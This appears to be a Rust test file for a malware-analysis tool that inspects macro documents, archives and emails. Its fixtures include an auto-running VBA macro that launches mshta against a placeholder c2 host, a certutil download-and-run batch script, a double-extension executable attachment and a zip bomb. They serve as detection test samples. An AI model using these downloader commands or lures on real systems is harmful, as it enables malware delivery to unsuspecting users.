//! What an analyst hands in, from end to end. Every document is assembled here from parts and cannot run.

// The helpers of a test fail as the test does.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use std::io::{Cursor, Write};
use strongroom_model::{Kind, Limit, Limits, ObservableType, Report, Role, Verdict, Why};
use zip::unstable::write::FileOptionsExt;
use zip::write::SimpleFileOptions;
use zip::{AesMode, ZipWriter};

const TYPES: &str = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";

fn examine(name: &str, bytes: &[u8]) -> Report {
    strongroom_files::examine(name, bytes, &Limits::default())
}

fn archive(members: &[(&str, &[u8])], options: SimpleFileOptions) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, options).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn document(macros: &str) -> Vec<u8> {
    let project = strongroom_files::write_vba_project(&[("ThisDocument", ""), ("Module1", macros)]);
    let members: [(&str, &[u8]); 2] = [
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("word/vbaProject.bin", &project),
    ];
    archive(&members, SimpleFileOptions::default())
}

fn codes(report: &Report) -> Vec<String> {
    let all = report.walk().into_iter().flat_map(|report| &report.findings);
    all.map(|finding| finding.code.to_string()).collect()
}

fn mail(text: &str, name: &str, attachment: &[u8]) -> Vec<u8> {
    use base64::Engine;
    let encoded = base64::engine::general_purpose::STANDARD.encode(attachment);
    format!(
        "From: Mallory <mallory@trade.example>\r\nTo: alice@exchange.example\r\nSubject: Listing\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=part\r\n\r\n--part\r\nContent-Type: text/plain\r\n\r\n{text}\r\n\
         --part\r\nContent-Type: application/octet-stream; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n{encoded}\r\n--part--\r\n"
    )
    .into_bytes()
}

#[test]
fn a_document_that_merely_has_macros_is_clean() {
    let report = examine(
        "greeting.docm",
        &document("Sub Greet()\n  MsgBox \"hello\"\nEnd Sub\n"),
    );
    assert_eq!(report.evidence.kind, Kind::Docm);
    assert_eq!(
        (report.verdict(), codes(&report)),
        (Verdict::Clean, vec!["files.macros".to_owned()])
    );
    assert!(
        report.scripts[0]
            .layers
            .iter()
            .any(|layer| layer.text.contains("MsgBox"))
    );
}

#[test]
fn a_macro_that_runs_by_itself_alone_is_no_alarm() {
    let report = examine(
        "d.docm",
        &document("Sub AutoOpen()\n  MsgBox \"hello\"\nEnd Sub\n"),
    );
    assert_eq!(report.verdict(), Verdict::Clean);
    assert!(codes(&report).contains(&"macro.auto-run".to_owned()));
}

#[test]
fn a_macro_that_starts_a_downloader_by_itself_is_malicious() {
    let macros = "Sub AutoOpen()\n  Shell \"ms\" & \"hta https://c2.example/\" & \"a.hta\", 0\nEnd Sub\n";
    let report = examine("d.docm", &document(macros));
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert!(
        codes(&report).contains(&"macro.auto-run-downloader".to_owned()),
        "{:?}",
        codes(&report)
    );
    let url = report
        .observables
        .iter()
        .find(|seen| seen.role == Role::Download)
        .unwrap();
    assert_eq!(url.observable.value(), "https://c2.example/a.hta");
}

#[test]
fn a_project_under_the_name_of_a_text_is_read() {
    let project = strongroom_files::write_vba_project(&[("Module1", "Sub AutoOpen()\nMsgBox 1\nEnd Sub\n")]);
    for name in ["word/styles.xml", "custom/item1.xml"] {
        let members: [(&str, &[u8]); 2] = [("[Content_Types].xml", TYPES.as_bytes()), (name, &project)];
        let report = examine("d.docm", &archive(&members, SimpleFileOptions::default()));
        assert!(codes(&report).contains(&"macro.auto-run".to_owned()), "{name}");
    }
}

#[test]
fn both_of_two_archives_in_a_row_are_read() {
    let options = SimpleFileOptions::default();
    let first = archive(
        &[("run.bat", b"@echo off\r\nmshta https://c2.example/a.hta\r\n")],
        options,
    );
    let report = examine(
        "x.zip",
        &[first, archive(&[("note.txt", b"hello")], options)].concat(),
    );
    let names: Vec<&str> = report
        .children
        .iter()
        .map(|child| child.evidence.name.as_str())
        .collect();
    assert_eq!(names, ["run.bat", "note.txt"]);
    assert!(report.verdict() >= Verdict::Suspicious);
}

#[test]
fn a_short_command_with_a_zero_byte_is_not_cleared() {
    assert_eq!(
        examine("a.cmd", b"\0\r\nmshta a.example/x").verdict(),
        Verdict::NotCleared
    );
    assert_eq!(examine("a.bin", &[1, 2, 3, 0, 200, 7]).verdict(), Verdict::Clean);
}

#[test]
fn what_a_button_starts_weighs_less_than_what_runs_by_itself() {
    let macros = "Sub AutoOpen()\n  x = 1\nEnd Sub\nSub Button1_Click()\n  Shell \"notepad.exe\"\nEnd Sub\n";
    let report = examine("d.docm", &document(macros));
    let codes = codes(&report);
    assert!(
        codes.contains(&"macro.start".to_owned()) && !codes.contains(&"macro.auto-run-start".to_owned()),
        "{codes:?}"
    );
}

#[test]
fn a_locked_archive_in_a_mail_opens_with_the_word_of_its_text() {
    let options = SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, "Kim-2019!");
    let locked = archive(
        &[("Invoice.docm", &document("Sub Greet()\nMsgBox 1\nEnd Sub\n"))],
        options,
    );
    let report = examine(
        "m.eml",
        &mail(
            "Dear Alice,\r\n\r\nthe password is \"Kim-2019!\".",
            "invoice.zip",
            &locked,
        ),
    );
    let inner = &report.children[0].children[0];
    assert_eq!(
        (inner.evidence.name.as_str(), inner.evidence.kind),
        ("Invoice.docm", Kind::Docm)
    );
    let without = examine("invoice.zip", &locked);
    assert_eq!(without.verdict(), Verdict::NotCleared);
    assert_eq!(without.gaps[0].cause, Why::Encrypted);
    let people: Vec<(&str, Role)> = report
        .observables
        .iter()
        .filter(|seen| seen.observable.kind() == ObservableType::Email)
        .map(|seen| (seen.observable.value(), seen.role))
        .collect();
    assert_eq!(
        people,
        [
            ("alice@exchange.example", Role::Recipient),
            ("mallory@trade.example", Role::Sender)
        ]
    );
}

#[test]
fn the_old_cipher_opens_with_the_common_word() {
    let options = SimpleFileOptions::default()
        .with_deprecated_encryption(b"infected")
        .unwrap();
    let report = examine("x.zip", &archive(&[("a.txt", b"hello hello hello")], options));
    assert_eq!(report.children[0].evidence.name, "a.txt");
    assert_eq!(report.verdict(), Verdict::Clean);
}

#[test]
fn a_message_in_a_message_is_read() {
    let inner = mail("see https://inner.example/", "a.txt", b"hello");
    let inner = String::from_utf8(inner)
        .unwrap()
        .replace("boundary=part", "boundary=deep")
        .replace("--part", "--deep");
    let outer = format!(
        "From: a@b.example\r\nTo: c@d.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=part\r\n\r\n\
         --part\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--part--\r\n"
    );
    let report = examine("outer.eml", outer.as_bytes());
    assert_eq!(report.children[0].evidence.kind, Kind::Mail);
    assert_eq!(report.children[0].children[0].evidence.name, "a.txt");
    let named = |report: &Report| {
        report
            .observables
            .iter()
            .any(|seen| seen.observable.value() == "https://inner.example/")
    };
    assert!(named(&report.children[0]));
}

#[test]
fn a_program_by_mail_under_a_documents_name_is_malicious() {
    let mut program = b"MZ".to_vec();
    program.resize(0x40, 0);
    program[0x3C] = 0x40;
    program.extend_from_slice(b"PE\0\0inert");
    let alone = examine("setup.exe", &program);
    assert_eq!(
        (alone.evidence.kind, alone.verdict()),
        (Kind::Exe, Verdict::NotCleared)
    );
    assert_eq!(
        examine("m.eml", &mail("hi", "setup.exe", &program)).verdict(),
        Verdict::Suspicious
    );
    let report = examine("m.eml", &mail("hi", "invoice.pdf.exe", &program));
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn a_bomb_and_a_nest_end_at_their_limits() {
    let zeros = vec![0; 8 << 20];
    let bomb = archive(&[("zeros", &zeros)], SimpleFileOptions::default());
    let report = strongroom_files::examine(
        "b.zip",
        &bomb,
        &Limits {
            ratio: 100,
            ..Limits::default()
        },
    );
    assert_eq!(report.gaps[0].cause, Why::Limit(Limit::Ratio));
    let mut nest = b"inside".to_vec();
    for _ in 0..20 {
        nest = archive(&[("n.zip", &nest)], SimpleFileOptions::default());
    }
    let report = examine("n.zip", &nest);
    assert_eq!(report.verdict(), Verdict::NotCleared);
    assert!(
        report
            .walk()
            .iter()
            .any(|r| r.gaps.iter().any(|gap| gap.cause == Why::Limit(Limit::Depth)))
    );
    let many = strongroom_files::examine(
        "b.zip",
        &bomb,
        &Limits {
            children: 0,
            ..Limits::default()
        },
    );
    assert!(many.children.is_empty() && many.verdict() == Verdict::NotCleared);
}

#[test]
fn a_batch_text_is_followed_to_what_it_fetches() {
    let text = "@echo off\r\nset h=https://c2.example\r\ncertutil -urlcache -split -f %h%/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n";
    let report = examine("run.bat", text.as_bytes());
    assert_eq!(report.evidence.kind, Kind::Batch);
    let codes = codes(&report);
    assert!(
        codes.contains(&"script.download-run".to_owned()) && codes.contains(&"script.proxy".to_owned()),
        "{codes:?}"
    );
    assert!(report.verdict() >= Verdict::Suspicious);
}

#[test]
fn the_same_bytes_give_the_same_report() {
    let bytes = mail(
        "hi",
        "d.docm",
        &document("Sub AutoOpen()\nShell \"mshta https://c2.example/x\"\nEnd Sub\n"),
    );
    assert_eq!(examine("m.eml", &bytes), examine("m.eml", &bytes));
}

#[test]
fn passwords_tried_on_an_archive_are_counted() {
    let text = (0..250)
        .map(|number| format!("word{number} "))
        .collect::<String>();
    let options = SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, "not in the text");
    let names: Vec<String> = (0..20).map(|number| format!("{number}.txt")).collect();
    let members: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"x"[..])).collect();
    let mail = mail(&text, "a.zip", &archive(&members, options));
    let limits = Limits {
        steps: 50_000,
        ..Limits::default()
    };
    let report = strongroom_files::examine("m.eml", &mail, &limits);
    let spent = report.walk().into_iter().flat_map(|report| &report.gaps);
    assert!(spent.filter(|gap| gap.cause == Why::Limit(Limit::Steps)).count() > 0);
    assert_eq!(report.verdict(), Verdict::NotCleared);
}

#[test]
fn a_project_is_one_by_its_relation_and_reads_its_document() {
    let project = strongroom_files::write_vba_project(&[(
        "Module1",
        "Sub AutoOpen()\n  Shell ActiveDocument.BuiltInDocumentProperties(\"Title\").Value\nEnd Sub\n",
    )]);
    let relations = b"<Relationships><Relationship Id=\"a\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"code.dat\"/></Relationships>";
    let core = b"<cp:coreProperties xmlns:cp=\"c\" xmlns:dc=\"d\"><dc:title>cmd /c echo told</dc:title></cp:coreProperties>";
    let with = |project: &[u8]| {
        let members: [(&str, &[u8]); 4] = [
            ("[Content_Types].xml", TYPES.as_bytes()),
            ("word/_rels/document.xml.rels", relations),
            ("docProps/core.xml", core),
            ("word/code.dat", project),
        ];
        examine("d.docm", &archive(&members, SimpleFileOptions::default()))
    };
    let read = with(&project);
    let told = read
        .findings
        .iter()
        .any(|finding| finding.title.contains("cmd /c echo told"));
    assert!(told, "{:?}", read.findings);
    let broken = with(&[0x81; 600]);
    assert_eq!(
        (broken.verdict(), broken.gaps[0].place.as_str()),
        (Verdict::NotCleared, "word/code.dat")
    );
}

#[test]
fn a_format_with_macros_named_like_one_without_is_told() {
    let bytes = document("Sub Greet()\nEnd Sub\n");
    let told = |name: &str| codes(&examine(name, &bytes)).contains(&"files.macro-format-hidden".to_owned());
    assert!(told("a.docx") && told("a.RTF"));
    assert!(!told("a.docm") && !told("a.doc") && !told("a"));
}
